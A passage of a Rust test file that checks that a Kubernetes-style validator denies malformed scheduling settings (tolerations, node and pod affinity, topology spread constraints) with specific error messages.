        ("node_selector_bad_value_is_denied", sched(json!({"nodeSelector": {"disktype": "-ssd"}})), &["spec.scheduling.nodeSelector.disktype: \"-ssd\" is not a label value"]),
        ("toleration_unknown_operator_is_denied", sched(json!({"tolerations": [{"key": "a", "operator": "exists"}]})), &["spec.scheduling.tolerations[0].operator: \"exists\" is not a toleration operator; use one of Equal, Exists"]),
        ("toleration_unknown_effect_is_denied", sched(json!({"tolerations": [{"operator": "Exists", "effect": "NoScheduling"}]})), &["spec.scheduling.tolerations[0].effect: \"NoScheduling\" is not a taint effect; use one of NoSchedule, PreferNoSchedule, NoExecute"]),
        ("toleration_empty_key_needs_exists", sched(json!({"tolerations": [{"value": "x"}]})), &["spec.scheduling.tolerations[0].operator: an empty key matches every taint and needs operator: Exists"]),
        ("toleration_exists_with_value_is_denied", sched(json!({"tolerations": [{"key": "a", "operator": "Exists", "value": "b"}]})), &["spec.scheduling.tolerations[0].value: must be empty when operator is Exists"]),
        ("toleration_seconds_without_noexecute_is_denied", sched(json!({"tolerations": [{"key": "a", "operator": "Exists", "effect": "NoSchedule", "tolerationSeconds": 5}]})), &["spec.scheduling.tolerations[0].tolerationSeconds: only applies to effect NoExecute"]),
        ("node_affinity_in_without_values_is_denied", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "In"}]}]}}}})), &["spec.scheduling.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].values: operator In needs at least one value"]),
        ("node_affinity_gt_needs_one_integer", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "cpus", "operator": "Gt", "values": ["four"]}]}]}}}})), &["matchExpressions[0].values: operator Gt needs exactly one integer value"]),
        ("node_affinity_unknown_operator_is_denied", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "Equals", "values": ["a"]}]}]}}}})), &["matchExpressions[0].operator: \"Equals\" is not a node selector operator"]),
        ("node_affinity_without_terms_is_denied", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": []}}}})), &["spec.scheduling.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms: needs at least one term"]),
        ("preferred_weight_out_of_range_is_denied", sched(json!({"affinity": {"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 0, "preference": {}}]}}})), &["spec.scheduling.affinity.nodeAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight: 0 is out of range; use a weight from 1 to 100"]),
        ("pod_anti_affinity_needs_a_topology_key", sched(json!({"affinity": {"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 10, "podAffinityTerm": {"topologyKey": ""}}]}}})), &["spec.scheduling.affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].podAffinityTerm.topologyKey: is required"]),
        ("pod_affinity_bad_selector_operator_is_denied", sched(json!({"affinity": {"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [{"topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchExpressions": [{"key": "app", "operator": "Gt", "values": ["1"]}]}}]}}})), &["labelSelector.matchExpressions[0].operator: \"Gt\" is not a label selector operator"]),
        ("spread_zero_skew_is_denied", sched(json!({"topologySpreadConstraints": [{"maxSkew": 0, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}]})), &["spec.scheduling.topologySpreadConstraints[0].maxSkew: must be at least 1"]),
        ("spread_bad_when_unsatisfiable_is_denied", sched(json!({"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "Never"}]})), &["spec.scheduling.topologySpreadConstraints[0].whenUnsatisfiable: \"Never\" is not a whenUnsatisfiable value; use one of DoNotSchedule, ScheduleAnyway"]),
        ("spread_min_domains_needs_do_not_schedule", sched(json!({"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "ScheduleAnyway", "minDomains": 2}]})), &["spec.scheduling.topologySpreadConstraints[0].minDomains: only applies with whenUnsatisfiable: DoNotSchedule"]),
        ("spread_duplicate_pair_is_denied", sched(json!({"topologySpreadConstraints": [
            {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
            {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}]})), &["spec.scheduling.topologySpreadConstraints[1]: a second constraint for topologyKey \"zone\""]),
        ("spread_bad_policy_is_denied", sched(json!({"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule", "nodeTaintsPolicy": "honor"}]})), &["spec.scheduling.topologySpreadConstraints[0].nodeTaintsPolicy: \"honor\" is not a policy; use one of Honor, Ignore"]),
    ]);
}
